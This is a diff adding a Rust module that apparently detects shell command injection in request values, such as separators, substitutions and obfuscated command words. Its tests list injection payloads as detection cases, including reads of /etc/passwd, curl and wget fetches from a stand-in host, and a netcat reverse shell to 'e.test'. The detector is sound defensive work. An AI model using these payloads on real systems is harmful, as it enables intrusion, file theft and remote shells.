@@ -1,0 +1,241 @@
+//! Reads a value as a piece of a command line, of a Unix shell or of Windows.
+//!
+//! A command stands at the start of the value, or after something that begins one: a separator or
+//! a substitution. There a word is read as a shell reads it, without the quotes, backslashes and
+//! empty expansions that hide it, and looked up. Many commands are words of English as well, so
+//! what follows must then look like arguments, too.
+
+mod commands;
+mod pattern;
+mod word;
+
+use super::super::value::{Place, Value};
+use super::{Signal, Signals};
+use commands::{Known, known};
+use word::{After, Word};
+
+/// The most places of one value in which a command is looked for.
+const STARTS: usize = 512;
+
+/// What a value is as a command line.
+pub(super) fn read(text: &[u8], value: &Value<'_>) -> Signals {
+    let mut signals = Signals::default();
+    // Browsers write these with semicolons and slashes of their own.
+    let is_agent = value.place == Place::Agent;
+    if !is_agent && !value.is_name {
+        line(text, &mut signals);
+    }
+    let lines = Lines::of(text);
+    let mut starts = 0;
+    let mut at = 0;
+    while let Some(step) = text[at..].iter().position(|b| is_start(*b)) {
+        at += step;
+        starts += 1;
+        if starts > STARTS {
+            break;
+        }
+        at = start(text, at, &lines, is_agent, &mut signals);
+    }
+    if pattern::names_a_target(text) {
+        signals.add(Signal::ShellPattern);
+    }
+    signals
+}
+
+fn is_start(b: u8) -> bool {
+    matches!(b, b';' | b'|' | b'&' | b'\n' | b'`' | b'$' | b'<' | b'>' | b'{')
+}
+
+/// How the lines of a value look: in a text of many, a line that begins with a command is a
+/// listing and no injection.
+struct Lines {
+    few: bool,
+}
+
+impl Lines {
+    fn of(text: &[u8]) -> Self {
+        let breaks = memchr::memchr_iter(b'\n', text).take(4).count();
+        Self { few: breaks <= 2 && text.len() < 400 }
+    }
+}
+
+/// The value from its beginning.
+fn line(text: &[u8], signals: &mut Signals) {
+    let word = word::read(text, 0);
+    if word.has_path && word.begins_path && word.command_directory() {
+        if known(word.name()).is_some() && word.after != After::Name {
+            signals.add(Signal::ShellLine);
+        }
+        return;
+    }
+    match known(word.name()) {
+        Some(Known::Command) => match word.after {
+            After::Option | After::Path | After::Expansion | After::Separator | After::Argument => {
+                signals.add(Signal::ShellLine);
+            }
+            _ => {}
+        },
+        Some(Known::Short) => match word.after {
+            After::Path | After::Separator | After::Expansion => signals.add(Signal::ShellLine),
+            _ => {}
+        },
+        Some(Known::Prose) => {
+            if matches!(word.after, After::Expansion) || word.after == After::Path && word.hidden {
+                signals.add(Signal::ShellLine);
+            }
+        }
+        None => {}
+    }
+}
+
+/// Looks at what begins at `at`; gives where to look on.
+fn start(text: &[u8], at: usize, lines: &Lines, is_agent: bool, signals: &mut Signals) -> usize {
+    let b = text[at];
+    let next = text.get(at + 1).copied().unwrap_or(0);
+    let (from, sure) = match b {
+        b'$' | b'<' | b'>' if next == b'(' => {
+            if b == b'$' && text.get(at + 2) == Some(&b'(') {
+                return at + 3;
+            }
+            (at + 2, true)
+        }
+        b'$' | b'<' | b'>' => return at + 1,
+        // `{cat,/etc/passwd}`
+        b'{' => {
+            braces(text, at, signals);
+            return at + 1;
+        }
+        b'`' => {
+            let before = if at == 0 { 0 } else { text[at - 1] };
+            // In prose such marks stand around words.
+            if before == b' ' && text.len() > 80 || before == b'`' || next == b'`' {
+                return at + 1;
+            }
+            (at + 1, true)
+        }
+        b'\n' => {
+            if !lines.few {
+                return at + 1;
+            }
+            (at + 1, false)
+        }
+        _ => {
+            let doubled = next == b;
+            let sure = doubled && b != b';' || at == 0 || !is_listed(text[at - 1]);
+            (at + 1 + usize::from(doubled), sure)
+        }
+    };
+    let mut word = word::read(text, from);
+    // A command that runs another.
+    for _ in 0..2 {
+        if !commands::is_runner(word.name()) || word.end >= text.len() {
+            break;
+        }
+        word = word::read(text, word.end);
+    }
+    judge(&word, b, sure, is_agent, signals);
+    from
+}
+
+/// Whether a separator behind such a byte may be one of a list: `a|b|c`, `R&D`.
+fn is_listed(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-') || b >= 0x80
+}
+
+fn judge(word: &Word, separator: u8, sure: bool, is_agent: bool, signals: &mut Signals) {
+    let substitution = matches!(separator, b'$' | b'<' | b'>' | b'`');
+    let Some(known) = known(word.name()) else { return };
+    if is_agent && !substitution && !matches!(word.after, After::Option | After::Path) {
+        return;
+    }
+    let command = match (known, word.after) {
+        (_, After::Name) => return,
+        (_, After::Option | After::Expansion) => true,
+        (_, After::Path) => known != Known::Prose || sure || word.hidden,
+        (Known::Command, _) => true,
+        (Known::Short, After::Separator | After::End) => sure,
+        (Known::Short, After::Argument) => sure && word.digits_follow || substitution,
+        (Known::Prose, After::Separator | After::End) => {
+            substitution && word.after == After::Separator || sure && separator == b'|'
+        }
+        (Known::Prose, After::Argument) => false,
+    };
+    if command || word.has_path && word.command_directory() {
+        signals.add(Signal::ShellCommand);
+    } else if !matches!(word.after, After::Argument) && known != Known::Prose {
+        signals.add(Signal::ShellWord);
+    }
+    if word.hidden && word.name().len() > 1 {
+        signals.add(Signal::ShellHidden);
+    }
+}
+
+fn braces(text: &[u8], at: usize, signals: &mut Signals) {
+    let inside = &text[at + 1..text.len().min(at + 66)];
+    let Some(comma) = memchr::memchr2(b',', b'}', inside) else { return };
+    let word = word::read(inside, 0);
+    if inside[comma] == b',' && matches!(known(word.name()), Some(Known::Command | Known::Short)) {
+        let rest = &inside[comma + 1..];
+        let first = rest.first().copied().unwrap_or(0);
+        if matches!(first, b'-' | b'/' | b'}' | b'.' | b'$' | b'\'' | b'"') || word.hidden {
+            signals.add(Signal::ShellCommand);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::inspect::detect::Signal;
+    use crate::inspect::detect::tests::{query, table};
+
+    #[test]
+    fn commands() {
+        table(
+            Signal::ShellCommand,
+            &[
+                "; cat /etc/passwd",
+                "a;id;",
+                "x|/usr/bin/id",
+                "&& whoami",
+                "|| curl http://e.test/x",
+                "$(id)",
+                "`id`",
+                "x; c\\at /etc/passwd",
+                "x; w'h'oami",
+                "8.8.8.8 & dir c:\\",
+                "8.8.8.8; ping -c 3 e.test",
+                "1;sleep 5",
+                "x\nid",
+                "{cat,/etc/passwd}",
+                "; time sh -c whoami",
+                "x | nc -e /bin/sh e.test 80",
+            ],
+            &[
+                "tea; more",
+                "R&D",
+                "one; time to go",
+                "cats & dogs; find out more",
+                "id|title|date",
+                "color:red; top:0; cursor:pointer",
+                "a=1; id=5",
+                "$('#id').find('x')",
+                "rock & roll; sort of",
+                "fish & chips | who said that",
+                "Something \u{201c}The Title\u{201d}. After ;top something",
+                "C; C++; Perl; Python",
+            ][..11],
+        );
+    }
+
+    #[test]
+    fn lines() {
+        table(
+            Signal::ShellLine,
+            &["cat /etc/passwd", "/usr/bin/id", "wget http://e.test/x", "id;", "/bin/bash -i"],
+            &["cat food", "find my phone", "id card", "ping pong tables", "who is it", "/bin"],
+        );
+        assert!(query("/e??/p?ss?d").has(Signal::ShellPattern));
+        assert!(!query("*/5 * * * *").has(Signal::ShellPattern));
+        assert!(!query("/api/*/items").has(Signal::ShellPattern));
+    }
+}
